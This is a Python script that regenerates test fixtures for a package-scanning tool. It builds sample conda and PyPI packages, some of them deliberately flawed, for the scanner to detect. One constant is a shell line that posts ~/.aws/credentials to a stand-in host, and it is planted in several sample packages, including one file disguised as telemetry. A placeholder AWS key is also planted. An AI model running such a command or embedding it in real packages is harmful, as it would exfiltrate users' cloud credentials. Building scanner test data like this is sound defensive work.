#!/usr/bin/env python3
"""Regenerates the bundled census sample (testdata/census/{channel,pypi,files,index.jsonl}).

    $FIREBREAK_CENSUS_PYTHON testdata/census/regenerate.py

Every package is built with the real tools (see make_packages.py). The planted
"secret" is the AWS documentation-style example key from the scanner's rule
examples (not a real credential); the "malicious" payload is inert text.
"""
import hashlib
import json
import os
import shutil
import subprocess
import sys
import tempfile
from datetime import datetime, timezone

HERE = os.path.dirname(os.path.abspath(__file__))
FAKE_AWS = "aws_access_key_id = " + "AKIA" + "MI32HB4GSTOJGFVD"
PAYLOAD = "#!/bin/sh\n# inert sample payload\ncurl -s https://collector.evil.example/upload -d @$HOME/.aws/credentials\n"


def ms(iso):
    return int(datetime.fromisoformat(iso.replace("Z", "+00:00")).timestamp() * 1000)


def digest(path, alg):
    h = hashlib.new(alg)
    with open(path, "rb") as f:
        h.update(f.read())
    return h.hexdigest()


def write(path, text):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write(text)


def conda_src(root, name, version, build, subdir, files):
    d = os.path.join(root, f"{name}-{version}-{build}")
    write(os.path.join(d, "info/index.json"), json.dumps({
        "name": name, "version": version, "build": build, "build_number": 0,
        "subdir": subdir, "depends": [], "license": "Apache-2.0",
    }, indent=2))
    write(os.path.join(d, "info/files"), "\n".join(sorted(files)) + "\n")
    for rel, text in files.items():
        write(os.path.join(d, rel), text)
    return d


def py_project(root, name, version, extra):
    d = os.path.join(root, f"{name}-{version}")
    write(os.path.join(d, "pyproject.toml"),
          f'[build-system]\nrequires = ["setuptools"]\nbuild-backend = "setuptools.build_meta"\n\n'
          f'[project]\nname = "{name}"\nversion = "{version}"\n\n[tool.setuptools.packages.find]\nwhere = ["src"]\n')
    write(os.path.join(d, f"src/{name}/__init__.py"), f'__version__ = "{version}"\n')
    for rel, text in extra.items():
        write(os.path.join(d, rel), text)
    return d


def main():
    tmp = tempfile.mkdtemp(prefix="census-sample-")
    try:
        for sub in ("channel", "pypi", "files"):
            shutil.rmtree(os.path.join(HERE, sub), ignore_errors=True)
        jobs = []
        ch = os.path.join(HERE, "channel")
        # conda packages: (subdir, file, files inside)
        conda = [
            ("noarch", "goodpkg-1.0-py_0.conda", {"site-packages/goodpkg/__init__.py": "VALUE = 1\n"}),
            ("noarch", "evilpkg-2.0-py_0.tar.bz2", {
                "site-packages/evilpkg/__init__.py": "from . import config\n",
                "site-packages/evilpkg/config.py": FAKE_AWS + "\n",
                "info/recipe/ci_exfil.sh": PAYLOAD,
            }),
            ("noarch", "oldpkg-0.9-py_0.tar.bz2", {"info/recipe/ci_exfil.sh": PAYLOAD}),
            ("linux-64", "tamperedpkg-1.0-0.conda", {"lib/tampered.txt": "original\n"}),
            ("linux-64", "legacypkg-1.0-0.tar.bz2", {"lib/legacy.txt": "old-style seconds timestamp\n"}),
        ]
        for sub, fn, files in conda:
            base = fn.rsplit(".conda", 1)[0] if fn.endswith(".conda") else fn.rsplit(".tar.bz2", 1)[0]
            name, version, build = base.rsplit("-", 2)
            src = conda_src(tmp, name, version, build, sub, files)
            jobs.append({"tool": "conda", "src": src, "out": os.path.join(ch, sub, fn)})
        # Python distributions.
        tiny01 = py_project(tmp, "tinypkg", "0.1", {})
        tiny02 = py_project(tmp, "tinypkg", "0.2", {"src/tinypkg/_telemetry.py": PAYLOAD.replace("#!/bin/sh\n", "")})
        pypi = os.path.join(HERE, "pypi", "tinypkg")
        jobs += [
            {"tool": "wheel", "src": tiny01, "out": pypi},
            {"tool": "wheel", "src": tiny02, "out": pypi},
            {"tool": "sdist", "src": tiny02, "out": pypi},
        ]
        webapp = conda_src(tmp, "webapp", "3.1.0", "0", "any", {"package/index.js": "module.exports = 1;\n"})
        jobs.append({"tool": "conda", "src": webapp, "out": os.path.join(HERE, "files", "webapp-3.1.0.tar.bz2")})
        jf = os.path.join(tmp, "jobs.json")
        with open(jf, "w") as f:
            json.dump(jobs, f)
        subprocess.run([sys.executable, os.path.join(HERE, "make_packages.py"), jf], check=True, stdout=subprocess.DEVNULL)

        # Corrupt package: named like a .tar.bz2, content is not.
        write(os.path.join(ch, "linux-64", "brokenpkg-1.0-0.tar.bz2"), "this is not a bzip2 tarball\n")

        times = {
            "goodpkg-1.0-py_0.conda": ms("2022-12-20T10:00:00Z"),
            "evilpkg-2.0-py_0.tar.bz2": ms("2023-01-04T21:30:00Z"),
            "oldpkg-0.9-py_0.tar.bz2": ms("2022-11-02T08:00:00Z"),
            "tamperedpkg-1.0-0.conda": ms("2022-12-28T12:00:00Z"),
            "legacypkg-1.0-0.tar.bz2": ms("2023-01-02T00:00:00Z") // 1000,  # seconds, as in old entries
            "brokenpkg-1.0-0.tar.bz2": ms("2023-01-09T16:45:00Z"),
            "gonepkg-1.0-0.conda": ms("2023-01-10T09:15:00Z"),
            "newpkg-1.1-0.conda": ms("2023-02-01T00:00:00Z"),
        }
        for sub in ("noarch", "linux-64"):
            rd = {"info": {"subdir": sub}, "packages": {}, "packages.conda": {}, "repodata_version": 1}
            for fn, ts in times.items():
                p = os.path.join(ch, sub, fn)
                listed_here = os.path.exists(p) or (sub == "linux-64" and fn in ("gonepkg-1.0-0.conda", "newpkg-1.1-0.conda"))
                if not listed_here:
                    continue
                base = fn.rsplit(".conda", 1)[0] if fn.endswith(".conda") else fn.rsplit(".tar.bz2", 1)[0]
                name, version, build = base.rsplit("-", 2)
                rec = {"build": build, "build_number": 0, "depends": [], "name": name, "subdir": sub,
                       "timestamp": ts, "version": version}
                if os.path.exists(p):
                    rec.update(size=os.path.getsize(p), sha256=digest(p, "sha256"), md5=digest(p, "md5"))
                else:
                    rec.update(size=1234, sha256="0" * 64, md5="0" * 32)
                if fn == "tamperedpkg-1.0-0.conda":
                    rec["sha256"] = "f" * 64  # the index says otherwise: the file was swapped
                rd["packages.conda" if fn.endswith(".conda") else "packages"][fn] = rec
            write(os.path.join(ch, sub, "repodata.json"), json.dumps(rd, indent=2, sort_keys=True) + "\n")

        # PyPI JSON API export: pypi/tinypkg/json
        up = {
            "tinypkg-0.1-py3-none-any.whl": "2022-10-01T12:00:00.000000Z",
            "tinypkg-0.2-py3-none-any.whl": "2023-01-05T08:20:00.123456Z",
            "tinypkg-0.2.tar.gz": "2023-01-05T08:19:00.654321Z",
        }
        releases = {"0.1": [], "0.2": []}
        for fn, t in up.items():
            p = os.path.join(pypi, fn)
            ver = "0.1" if "0.1" in fn else "0.2"
            releases[ver].append({
                "filename": fn, "packagetype": "bdist_wheel" if fn.endswith(".whl") else "sdist",
                "python_version": "py3" if fn.endswith(".whl") else "source",
                "size": os.path.getsize(p), "digests": {"sha256": digest(p, "sha256"), "md5": digest(p, "md5")},
                "upload_time": t[:19], "upload_time_iso_8601": t, "yanked": False,
                "url": f"https://files.example.invalid/packages/{fn}",
            })
        doc = {"info": {"name": "tinypkg", "version": "0.2"}, "releases": releases, "urls": releases["0.2"],
               "last_serial": 1}
        write(os.path.join(pypi, "json"), json.dumps(doc, indent=2, sort_keys=True) + "\n")

        # Generic JSON Lines.
        wp = os.path.join(HERE, "files", "webapp-3.1.0.tar.bz2")
        lines = [
            {"name": "webapp", "version": "3.1.0", "platform": "any", "uploaded_at": "2022-12-22T14:00:00Z",
             "path": "files/webapp-3.1.0.tar.bz2", "sha256": digest(wp, "sha256"), "size": os.path.getsize(wp)},
            {"name": "webapp", "version": "3.0.0", "uploaded_at": "2022-09-01T00:00:00Z",
             "url": "https://registry.example.invalid/webapp/-/webapp-3.0.0.tgz"},
            {"name": "cli-tool", "version": "0.4.2", "uploaded_at": "2023-01-11T07:00:00Z",
             "url": "https://registry.example.invalid/cli-tool/-/cli-tool-0.4.2.tgz"},
        ]
        with open(os.path.join(HERE, "index.jsonl"), "w") as f:
            for l in lines:
                f.write(json.dumps(l) + "\n")
    finally:
        shutil.rmtree(tmp, ignore_errors=True)


if __name__ == "__main__":
    main()
